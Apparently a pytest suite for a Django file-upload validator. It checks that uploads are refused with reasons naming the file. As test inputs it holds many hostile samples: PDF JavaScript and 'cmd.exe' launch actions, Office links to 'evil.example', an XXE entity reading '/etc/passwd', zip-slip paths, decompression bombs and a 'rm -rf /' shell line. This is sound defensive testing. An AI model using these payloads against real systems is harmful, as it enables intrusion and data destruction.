"""S15: what strangers may try; each ends in a sentence that names the file."""

import codecs
import io
import random
import tracemalloc
import zipfile

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from pikepdf import Name

from liaison.files.checks import LARGEST, accept_upload
from liaison.files.refusals import SENTENCES, FileRefused

from . import makers

PROGRAM = b"MZ\x90\x00" + b"\0" * 200
PAGE = b"<!DOCTYPE html><script>alert(1)</script>"
DRAWING = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
GIF_SCRIPT = b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)//"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"  # two halves: scanners read code
MACRO_DOCUMENT = "application/vnd.ms-word.document.macroEnabled.main+xml"
MACRO_SHEET = "application/vnd.ms-excel.macrosheet+xml"
TAILS = [b"PK\x05\x06" + b"\0" * 18, b"<script>alert(1)</script>", b"*/;alert(1)//", makers.packed({"a.exe": b"MZ"})]

BY_NAME = {
    "program": ("program.exe", PROGRAM, "kind"),
    "EICAR as a program": ("eicar.com", EICAR, "kind"),
    "screen saver": ("年会.scr", PROGRAM, "kind"),
    "batch": ("run.bat", b"@echo off", "kind"),
    "page": ("page.html", PAGE, "kind"),
    "drawing": ("drawing.svg", DRAWING, "kind"),
    "script": ("x.js", b"alert(1)", "kind"),
    "link": ("x.lnk", b"L\0\0\0", "kind"),
    "double extension": ("invoice.pdf.exe", makers.pdf(), "kind"),
    "spaces before the extension": ("invoice.pdf          .exe", makers.pdf(), "kind"),
    "dot at the end": ("evil.exe.", makers.pdf(), "kind"),
    "direction mark": ("invoice\u202efdp.exe", makers.pdf(), "kind"),
    "no extension": ("invoice", makers.pdf(), "kind"),
    "only an extension": (".htaccess", b"x", "kind"),
    "full-width dot": ("x．pdf", makers.pdf(), "kind"),
    "archive": ("files.zip", makers.packed({"a.txt": "x"}), "archive"),
    "other archive": ("files.rar", b"Rar!", "archive"),
    "old Word": ("old.doc", makers.OLE, "legacy"),
    "old Excel": ("old.xls", makers.OLE, "legacy"),
    "WPS": ("表.et", makers.OLE, "legacy"),
    "Word with macros": ("x.docm", makers.word(), "active"),
    "GIF": ("x.gif", GIF_SCRIPT, "moving"),
    "HEIC": ("x.heic", b"\0\0\0\x18ftypheic", "heic"),
}
PICTURES = {
    "program as picture": ("x.jpg", PROGRAM, "content"),
    "page as picture": ("x.png", PAGE, "content"),
    "drawing as picture": ("x.png", DRAWING, "content"),
    "GIF and script as picture": ("x.jpg", GIF_SCRIPT, "content"),
    "PostScript as picture": ("x.jpg", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n", "content"),
    "truncated": ("x.jpg", makers.picture(size=(400, 300))[:900], "damaged"),
    "truncated PNG": ("x.png", makers.picture("PNG", size=(400, 300))[:200], "damaged"),
    "only a header": ("x.png", b"\x89PNG\r\n\x1a\n", "content"),
    "pixel flood": ("x.png", makers.flood(), "pixels"),
    "just too many pixels": ("x.png", makers.flood(50_001, 1_000), "pixels"),
    "rows that are not there": ("x.png", makers.flood(7_000, 7_000), "damaged"),
    "moving PNG": ("x.png", makers.moving("PNG"), "moving"),
    "moving WebP": ("x.webp", makers.moving("WEBP"), "moving"),
}
PDFS = {
    "program as PDF": ("x.pdf", PROGRAM, "content"),
    "page before PDF": ("x.pdf", PAGE + makers.pdf(), "content"),
    "PDF and archive": ("x.pdf", makers.pdf() + makers.packed({"a.exe": b"MZ"}), "content"),
    "truncated PDF": ("x.pdf", makers.pdf()[:300], "damaged"),
    "only the frame of a PDF": ("x.pdf", b"%PDF-1.7\nnothing\n%%EOF\n", "damaged"),
    "script when opened": ("x.pdf", makers.pdf(makers.action(S=Name.JavaScript, JS=pikepdf.String("app.alert(1)"))), "active"),
    "script in an annotation": ("x.pdf", makers.pdf(makers.script_in_annotation), "active"),
    "script among the names": ("x.pdf", makers.pdf(makers.script_in_names), "active"),
    "script in a packed object": (
        "x.pdf",
        makers.pdf(makers.script_in_annotation, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "active",
    ),
    "script under another spelling": (
        "x.pdf",
        makers.pdf(makers.script_in_annotation).replace(b"/S /JavaScript", b"/S /#4aavaScript").replace(b"/JS ", b"/#4aS "),
        "active",
    ),
    "program start": ("x.pdf", makers.pdf(makers.action(S=Name.Launch, F=pikepdf.String("cmd.exe"))), "active"),
    "embedded file": ("x.pdf", makers.pdf(makers.embedded_file), "embedded"),
    "file as annotation": ("x.pdf", makers.pdf(makers.file_annotation), "embedded"),
    "stream on another machine": ("x.pdf", makers.pdf(makers.outside_stream), "external"),
    "password": ("x.pdf", makers.pdf(encryption=pikepdf.Encryption(owner="o", user="u")), "encrypted"),
    "owner's password": ("x.pdf", makers.pdf(encryption=pikepdf.Encryption(owner="o", user="")), "encrypted"),
}
OFFICE = {
    "macros": ("x.docx", makers.word({"word/vbaProject.bin": makers.OLE}), "active"),
    "macro type": (
        "x.docx",
        makers.word(content_types=makers.types("application/vnd.ms-word.document.macroEnabled.main+xml")),
        "active",
    ),
    "macro sheet": (
        "x.docx",
        makers.word(content_types=makers.types(makers.WORD, "application/vnd.ms-excel.macrosheet+xml")),
        "active",
    ),
    "control": ("x.docx", makers.word({"word/activeX/activeX1.bin": b"x"}), "active"),
    "object": ("x.docx", makers.word({"word/embeddings/oleObject1.bin": makers.OLE}), "embedded"),
    "program inside": ("x.docx", makers.word({"word/media/image1.png": PROGRAM}), "active"),
    "script inside": ("x.docx", makers.word({"word/run.js": "x"}), "active"),
    "archive inside": ("x.docx", makers.word({"word/media/a.zip": makers.packed({"b": "x"})}), "embedded"),
    "package in package in package": (
        "x.docx",
        makers.word({"word/embeddings/a.docx": makers.word({"word/embeddings/b.docx": makers.word()})}),
        "embedded",
    ),
    "macros one level down": (
        "x.docx",
        makers.word({"word/embeddings/a.docx": makers.word({"word/vbaProject.bin": makers.OLE})}),
        "active",
    ),
    "template from elsewhere": (
        "x.docx",
        makers.word({"word/_rels/settings.xml.rels": makers.relation("attachedTemplate", "https://evil.example/t.dotm")}),
        "external",
    ),
    "object from elsewhere": (
        "x.docx",
        makers.word({"word/_rels/document.xml.rels": makers.relation("oleObject", "mhtml:https://evil.example/x")}),
        "external",
    ),
    "picture from elsewhere": (
        "x.docx",
        makers.word({"word/_rels/document.xml.rels": makers.relation("image", "https://evil.example/x.png")}),
        "external",
    ),
    "workbook on another machine": (
        "x.docx",
        makers.word({"xl/_rels/a.xml.rels": makers.relation("externalLinkPath", "file:///\\\\host\\share\\x.xlsx")}),
        "external",
    ),
    "program by DDE": (
        "x.docx",
        makers.word({"xl/externalLinks/externalLink1.xml": '<e xmlns="x"><ddeLink ddeService="cmd"/></e>'}),
        "active",
    ),
    "entities": (
        "x.docx",
        makers.word(content_types='<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + makers.types()),
        "active",
    ),
    "entities in UTF-16": (
        "x.docx",
        makers.word({"word/a.xml": codecs.BOM_UTF16_LE + "<!DOCTYPE x [<!ENTITY a 'b'>]><x/>".encode("utf-16-le")}),
        "active",
    ),
    "a sheet as document": ("x.docx", makers.sheet(), "content"),
    "an archive as document": ("x.docx", makers.packed({"a.txt": "x"}), "content"),
    "password on a new format": ("x.xlsx", makers.OLE, "legacy"),
    "old format under a new name": ("x.docx", makers.OLE, "legacy"),
    "bomb 1:1000": ("x.docx", makers.word({"word/a.xml": b"\0" * (50 << 20)}), "bomb"),
    "bomb beyond the sum": ("x.docx", makers.word({f"word/{n}.xml": b"ab" * (30 << 20) for n in range(6)}), "bomb"),
    "too many parts": ("x.docx", makers.word({f"word/{n}": "" for n in range(5_001)}), "bomb"),
    "overlapping parts": ("x.docx", makers.overlapping(), "bomb"),
    "size that lies": ("x.docx", makers.lying_size(), "damaged"),
    "slip": ("x.docx", makers.word({"../../etc/cron.d/x": "x"}), "damaged"),
    "slip with backslashes": ("x.docx", makers.word({"..\\..\\x": "x"}), "damaged"),
    "absolute": ("x.docx", makers.word({"/etc/x": "x"}), "damaged"),
    "symbolic link": ("x.docx", makers.link_part(), "damaged"),
    "encrypted part": ("x.docx", makers.encrypted_part(), "encrypted"),
    "unusual packing": ("x.docx", makers.word(compress=zipfile.ZIP_BZIP2), "damaged"),
    "words after the package": ("x.docx", makers.word(comment=b"<script>alert(1)</script>"), "damaged"),
    "program before the package": ("x.docx", PROGRAM + makers.word(), "content"),
    "truncated package": ("x.docx", makers.word()[:-30], "damaged"),
    "OFD of another kind": ("x.ofd", makers.ofd("<html/>"), "content"),
    "OFD without its root": ("x.ofd", makers.packed({"a.xml": "<a/>"}), "content"),
    "OFD with a program": ("x.ofd", makers.ofd(parts={"Doc_0/Res/a.png": PROGRAM}), "active"),
    "OFD with an archive": ("x.ofd", makers.ofd(parts={"Doc_0/Attachs/a": makers.word()}), "embedded"),
    "OFD with entities": ("x.ofd", makers.ofd('<!DOCTYPE x [<!ENTITY a "b">]><OFD/>'), "active"),
}
TEXTS = {
    "NUL": ("x.txt", b"words\0words", "encoding"),
    "control characters": ("x.csv", b"a,b\x1b[2J\x07", "encoding"),
    "UTF-16": ("x.txt", "中文".encode("utf-16"), "encoding"),
    "no text": ("x.txt", bytes(range(128, 256)), "encoding"),
    "cut in a character": ("x.txt", "中文字".encode("gb18030")[:-1], "encoding"),
    "page as text": ("x.txt", PAGE, "content"),
    "page behind a mark and spaces": ("x.txt", codecs.BOM_UTF8 + b" \r\n\t<ScRiPt src=x>", "content"),
    "drawing as text": ("x.csv", DRAWING, "content"),
    "shell script as text": ("x.txt", b"#!/bin/sh\nrm -rf /\n", "content"),
    "PHP as text": ("x.txt", b"<?php system('x');", "content"),
    "program as text": ("x.txt", b"MZ words", "content"),
    "empty": ("x.txt", b"", "empty"),
    "20 MB and one byte": ("x.txt", b"a" * (LARGEST + 1), "too_large"),
}
EVIL = {**BY_NAME, **PICTURES, **PDFS, **OFFICE, **TEXTS}


@pytest.mark.parametrize("case", EVIL)
def test_evil_file_is_refused_with_its_reason(case):
    name, content, code = EVIL[case]

    with pytest.raises(FileRefused) as refused:
        accept_upload(SimpleUploadedFile(name, content, content_type="image/png"))

    assert refused.value.code == code
    assert refused.value.name in refused.value.messages[0]


@pytest.mark.parametrize("code", SENTENCES)
@pytest.mark.parametrize("language", ["zh-hans", "en"])
def test_every_reason_names_the_file(code, language):
    with translation.override(language):
        assert "营业执照.pdf" in FileRefused(code, "营业执照.pdf", most=10).messages[0]


@pytest.mark.parametrize(
    "tail", [b"PK\x05\x06" + b"\0" * 18, b"<script>alert(1)</script>", b"*/;alert(1)//", makers.packed({"a.exe": b"MZ"})]
)
@pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP"])
def test_what_hangs_behind_a_picture_is_gone(kind, tail):
    checked = accept_upload(SimpleUploadedFile(f"x.{kind.lower()}", makers.picture(kind) + tail))

    assert tail not in checked.content.read()


def test_a_script_in_the_remarks_of_a_picture_is_gone():
    content = makers.picture(comment=b"*/;alert('polyglot');/*")

    checked = accept_upload(SimpleUploadedFile("x.jpg", content))

    assert b"polyglot" not in checked.content.read()


def test_a_remark_that_unpacks_without_end_hurts_nobody():
    try:
        checked = accept_upload(SimpleUploadedFile("x.png", makers.text_bomb()))
    except FileRefused as refused:
        assert refused.code in {"damaged", "bomb"}  # noqa: PT017
    else:
        assert checked.size < 2_000


def test_a_macro_inside_a_real_workbook_is_found():
    stream = io.BytesIO(makers.sheet(chart=True))
    with zipfile.ZipFile(stream, "a") as package:
        package.writestr("xl/vbaProject.bin", makers.OLE)

    with pytest.raises(FileRefused) as refused:
        accept_upload(SimpleUploadedFile("x.xlsx", stream.getvalue()))

    assert refused.value.code == "active"


def test_an_announced_size_is_not_believed():
    upload = SimpleUploadedFile("x.txt", b"a" * (LARGEST + 1))
    upload.size = 5

    with pytest.raises(FileRefused) as refused:
        accept_upload(upload)

    assert refused.value.code == "too_large"


def test_a_parser_that_never_ends_is_ended():
    with pytest.raises(FileRefused) as refused:
        accept_upload(SimpleUploadedFile("x.png", makers.picture("PNG", (6_900, 7_200), compress_level=1)), seconds=0)

    assert refused.value.code == "slow"


def test_the_checking_process_sees_no_secret(monkeypatch, tmp_path):
    seen = {}
    real = __import__("subprocess").run

    def run(command, **options):
        seen.update(options["env"])
        return real(command, **options)

    monkeypatch.setattr("liaison.files.checks.subprocess.run", run)
    accept_upload(SimpleUploadedFile("x.txt", b"words"))

    assert set(seen) == {"PATH", "LC_ALL", "MALLOC_ARENA_MAX"}


def test_random_bytes_under_every_name_are_refused_quietly():
    dice = random.Random(2)
    for extension in ("pdf", "docx", "ofd", "png", "webp", "jpg"):
        with pytest.raises(FileRefused):
            accept_upload(SimpleUploadedFile(f"x.{extension}", dice.randbytes(3_000)))


def test_a_large_file_stays_out_of_memory():
    upload = SimpleUploadedFile("x.txt", b"a" * LARGEST)
    tracemalloc.start()
    accept_upload(upload)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 4 << 20
